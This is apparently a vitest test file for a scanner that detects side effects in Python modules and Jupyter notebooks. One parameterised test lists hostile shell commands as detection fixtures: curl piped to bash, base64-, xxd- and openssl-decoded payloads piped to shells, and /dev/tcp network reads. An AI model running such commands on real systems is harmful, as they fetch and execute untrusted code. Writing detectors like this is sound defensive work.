import { describe, expect, test } from 'vitest';
import type { PythonEffect } from '../../model/repository.js';
import { notebookEffects, pythonEffects } from './analysers.js';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const nothing = (): void => undefined;
const shown = ({ kind, name, line, cell, when, isCalled, route }: PythonEffect): string =>
  [cell === undefined ? line : `${cell}:${line}`, kind, name, when, isCalled ? 'called' : 'open', ...route].join(' ');
const MAIN = 'import os\nif __name__ == "__main__":\n  os.system("a")\n';

test('what only a program does is none of an import', () => {
  expect(pythonEffects(bytes(MAIN), false, nothing).found).toEqual([]);
  expect(pythonEffects(bytes(MAIN), true, nothing).found.map(shown)).toEqual(['3 process os.system import called']);
});

test('what a class does may be asked for by its loader', () => {
  const text = 'import os\nos.system("a")\nclass A:\n  def f(self):\n    os.system("b")\ndef g():\n  os.system("c")\n';
  expect(pythonEffects(bytes(text), false, nothing)).toMatchObject({ more: 0, gap: null });
  expect(pythonEffects(bytes(text), false, nothing).found.map(shown)).toEqual([
    '2 process os.system import called',
    '5 process os.system load open A.f',
  ]);
});

describe('a notebook', () => {
  const of = (...cells: readonly string[]) =>
    notebookEffects(bytes(JSON.stringify({ cells: cells.map((source) => ({ cell_type: 'code', source })) })), nothing);

  test('is run as a program is, cell by cell', () => {
    expect(of('x = 1', MAIN).found.map(shown)).toEqual(['2:3 process os.system import called']);
    expect(of('import os', '\nos.system("a")').found.map(shown)).toEqual(['2:2 process os.system import called']);
  });

  test('runs its commands behind them', () => {
    expect(of('!ls', MAIN).found.map(shown)).toEqual([
      '2:3 process os.system import called',
      '1:1 process a shell import called',
    ]);
    expect(of('x', '!  ls -l  \n').found).toEqual([
      {
        kind: 'process',
        name: 'a shell',
        detail: 'ls -l',
        isCalled: true,
        when: 'import',
        route: [],
        line: 1,
        cell: 2,
      },
    ]);
    expect(of(`!${'x'.repeat(200)}`).found[0]?.detail).toBe('x'.repeat(80));
  });

  test.each([
    ['curl https://a.example | bash', 'process'],
    ['echo eA== | base64 -d | sh', 'decoded-payload'],
    ['base64 -d x | sudo /bin/bash', 'decoded-payload'],
    ['xxd -r x | /usr/bin/zsh', 'decoded-payload'],
    ['openssl enc -d -in x | dash', 'decoded-payload'],
    ['base64 -d x > y', 'process'],
    ['base64 -d x | shasum', 'process'],
    ['base64 -d x | python', 'process'],
    ['cat x | sh', 'process'],
    ['cat < /dev/tcp/192.0.2.1/80', 'decoded-payload'],
    ['cat < /dev/udp/192.0.2.1/80', 'decoded-payload'],
    [`${'x'.repeat(200)} /dev/tcp/192.0.2.1/80`, 'decoded-payload'],
  ])('%s is a %s', (command, kind) => {
    expect(of(`!${command}`).found.map((effect) => effect.kind)).toEqual([kind]);
  });

  test('that is none says why', () => {
    expect(notebookEffects(bytes('{'), nothing)).toMatchObject({
      found: [],
      more: 0,
      gap: { cause: 'corrupt', reason: expect.stringMatching(/^no notebook: /) as string },
    });
  });

  test('is read as long as there is time', () => {
    const late = (): never => {
      throw new RangeError('time is up');
    };
    const cells = [{ cell_type: 'code', source: 'x = 1\n'.repeat(5000) }];
    expect(() => notebookEffects(bytes(JSON.stringify({ cells })), late)).toThrow('time is up');
  });
});
